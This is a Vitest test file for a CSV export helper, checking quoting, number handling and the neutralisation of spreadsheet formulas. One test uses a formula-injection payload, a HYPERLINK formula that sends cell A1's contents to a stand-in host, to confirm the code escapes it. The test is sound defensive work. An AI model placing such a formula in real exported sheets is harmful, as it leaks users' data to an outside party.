import { describe, expect, it } from 'vitest';
import { csvCell, neutralizeFormula, toCsv } from './csv.js';

describe('csv', () => {
  it('quotes only what needs quoting, doubling quotes', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(0.5)).toBe('0.5');
  });

  it("neutralises cells a spreadsheet would run as a formula (OWASP's rule), and leaves numbers alone", () => {
    expect(csvCell('=HYPERLINK("http://x.example/?leak="&A1,"click")')).toBe(`"'=HYPERLINK(""http://x.example/?leak=""&A1,""click"")"`);
    expect(csvCell('+1+1')).toBe("'+1+1");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(1+1)')).toBe("'@SUM(1+1)");
    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvCell('cust-1')).toBe('cust-1');
    expect(csvCell('a=b')).toBe('a=b');
    // Numbers and exact decimals stay numbers in the sheet.
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell('-0.000125')).toBe('-0.000125');
    expect(csvCell('+12')).toBe('+12');
    expect(csvCell('1e-7')).toBe('1e-7');
    expect(neutralizeFormula('-')).toBe("'-");
    expect(neutralizeFormula('')).toBe('');
    // Column names from data (a JSON object's keys) too.
    expect(toCsv([{ '=x': 1 }])).toBe("'=x\n1");
  });

  it('takes the columns from the first row', () => {
    expect(
      toCsv([
        { a: 1, b: 'x' },
        { a: 2, b: 'y,z' },
      ]),
    ).toBe('a,b\n1,x\n2,"y,z"');
    expect(toCsv([])).toBe('');
  });
});
